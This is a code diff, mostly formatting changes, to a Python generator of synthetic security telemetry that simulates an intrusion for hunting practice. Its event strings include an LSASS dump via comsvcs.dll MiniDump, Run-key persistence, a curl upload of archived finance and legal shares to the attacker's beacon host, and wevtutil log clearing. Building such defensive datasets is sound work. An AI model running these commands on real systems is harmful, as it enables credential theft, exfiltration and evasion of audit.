@@ -35,8 +35,14 @@ _SITES: Final = (
 ).split()
 _DAILY: Final = (
     ("outlook.exe", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", ""),
-    ("winword.exe", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r'/n "C:\Users\{user}\Documents\plan.docx"'),
-    ("excel.exe", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r'"C:\Users\{user}\Documents\budget.xlsx"'),
+    (
+        "winword.exe", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+        r'/n "C:\Users\{user}\Documents\plan.docx"',
+    ),
+    (
+        "excel.exe", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
+        r'"C:\Users\{user}\Documents\budget.xlsx"',
+    ),
     ("chrome.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe", "--single-argument"),
     ("teams.exe", r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", ""),
     ("notepad.exe", r"C:\Windows\System32\notepad.exe", r"C:\Users\{user}\notes.txt"),
@@ -89,7 +95,7 @@ def tell(seed: int = 7) -> dict[str, list[Row]]:
     >>> len(tell()["SigninLogs"]) > 200
     True
     """
-    story = Story(Random(seed))
+    story = Story(Random(seed))  # noqa: S311  (the same story each time, no secret)
     users = [f"{first}.{last}" for first in _FIRST for last in ("hill", "wood", "lake")] + [VICTIM[0]]
     hosts = {f"ws{number:02}": users[number * 5 % len(users)] for number in range(1, 13)} | {VICTIM[1]: VICTIM[0]}
     shells = {host: _boot(story, host, user) for host, user in hosts.items()}
@@ -121,7 +127,9 @@ def _address(host: str) -> str:
 
 def _boot(story: Story, host: str, user: str) -> Started:
     at = story.later(START, 0, 600)
-    parent = Started(host, 612, r"C:\Windows\System32\userinit.exe", "userinit.exe", user, f"0x{story.random.getrandbits(24):x}", at)
+    parent = Started(
+        host, 612, r"C:\Windows\System32\userinit.exe", "userinit.exe", user, f"0x{story.random.getrandbits(24):x}", at
+    )
     return _start(story, parent, r"C:\Windows\explorer.exe", "", at)
 
 
@@ -167,7 +175,9 @@ def _logon(story: Story, at: datetime, host: str, user: str, source: str, kind: 
     )  # fmt: skip
 
 
-def _connect(story: Story, at: datetime, process: Started, name: str, address: str, port: int, sent: int, received: int) -> None:
+def _connect(
+    story: Story, at: datetime, process: Started, name: str, address: str, port: int, sent: int, received: int
+) -> None:
     """A connection out: name resolution, the endpoint and the firewall say so."""
     source = _address(process.host)
     story.add(
@@ -219,7 +229,16 @@ def _working_day(story: Story, day: datetime, host: str, user: str, shell: Start
         elif chance < 0.95:
             site = story.random.choice(_SITES)
             address = f"192.0.2.{50 + _SITES.index(site)}"
-            _connect(story, at, shell, site, address, 443, story.random.randint(500, 9_000), story.random.randint(2_000, 900_000))
+            _connect(
+                story,
+                at,
+                shell,
+                site,
+                address,
+                443,
+                story.random.randint(500, 9_000),
+                story.random.randint(2_000, 900_000),
+            )
         else:
             _logon(story, at, story.random.choice(["dc01", SERVER]), user, _address(host), 3)
 
@@ -262,8 +281,8 @@ def _phish(story: Story, shell: Started) -> Started:
         InitiatingProcessCommandLine=loader.command_line, InitiatingProcessAccountName=loader.user,
     )  # fmt: skip
     story.add(
-        "DeviceRegistryEvents", story.later(at, 8, 12), DeviceName=f"{VICTIM[1]}.{SUFFIX}", ActionType="RegistryValueSet",
-        RegistryKey=r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", RegistryValueName="Updater",
+        "DeviceRegistryEvents", story.later(at, 8, 12), DeviceName=f"{VICTIM[1]}.{SUFFIX}",
+        ActionType="RegistryValueSet", RegistryKey=r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", RegistryValueName="Updater",
         RegistryValueData=f"rundll32.exe {dropped},Start", InitiatingProcessFileName="powershell.exe",
         InitiatingProcessId=loader.pid, InitiatingProcessAccountName=loader.user,
     )  # fmt: skip
@@ -274,7 +293,16 @@ def _beacon(story: Story, loader: Started) -> None:
     """Every five minutes, give or take ten seconds, day and night."""
     at, end = loader.at, START + timedelta(days=DAYS)
     while (at := story.later(at, 290, 310)) < end:
-        _connect(story, at, loader, BEACON_NAME, CONTROLLER, 443, story.random.randint(300, 340), story.random.randint(150, 170))
+        _connect(
+            story,
+            at,
+            loader,
+            BEACON_NAME,
+            CONTROLLER,
+            443,
+            story.random.randint(300, 340),
+            story.random.randint(150, 170),
+        )
 
 
 def _discover(story: Story, loader: Started) -> None:
@@ -285,7 +313,10 @@ def _discover(story: Story, loader: Started) -> None:
         (r"C:\Windows\System32\net.exe", 'group "Domain Admins" /domain'),
         (r"C:\Windows\System32\nltest.exe", "/domain_trusts"),
         (r"C:\Windows\System32\ipconfig.exe", "/all"),
-        (r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\l.dmp full"),
+        (
+            r"C:\Windows\System32\rundll32.exe",
+            r"C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\l.dmp full",
+        ),
     ):
         at = story.later(at, 4, 40)
         _start(story, command, path, arguments, at)
@@ -314,11 +345,17 @@ def _move(story: Story, loader: Started, services: Started) -> None:
         story, command, r"C:\Windows\Temp\7z.exe",
         r"a -p C:\Windows\Temp\report.7z D:\Shares\Finance D:\Shares\Legal", at,
     )  # fmt: skip
-    sender = _start(story, command, r"C:\Windows\System32\curl.exe", f"-T C:\\Windows\\Temp\\report.7z https://{BEACON_NAME}/up", story.later(at, 300, 400))
+    sender = _start(
+        story,
+        command,
+        r"C:\Windows\System32\curl.exe",
+        f"-T C:\\Windows\\Temp\\report.7z https://{BEACON_NAME}/up",
+        story.later(at, 300, 400),
+    )
     _connect(story, story.later(sender.at, 1, 2), sender, BEACON_NAME, CONTROLLER, 443, 734_003_200, 4_212)
     _start(story, command, r"C:\Windows\System32\wevtutil.exe", "cl Security", story.later(sender.at, 60, 90))
     story.add(
-        "SecurityEvent", story.later(sender.at, 91, 95), Computer=f"{SERVER}.{SUFFIX}", EventID=1102, Channel="Security",
-        Activity="1102 - The audit log was cleared.", Account=f"{DOMAIN}\\{SERVICE_ACCOUNT}",
+        "SecurityEvent", story.later(sender.at, 91, 95), Computer=f"{SERVER}.{SUFFIX}", EventID=1102,
+        Channel="Security", Activity="1102 - The audit log was cleared.", Account=f"{DOMAIN}\\{SERVICE_ACCOUNT}",
         SubjectUserName=SERVICE_ACCOUNT, SubjectDomainName=DOMAIN,
     )  # fmt: skip
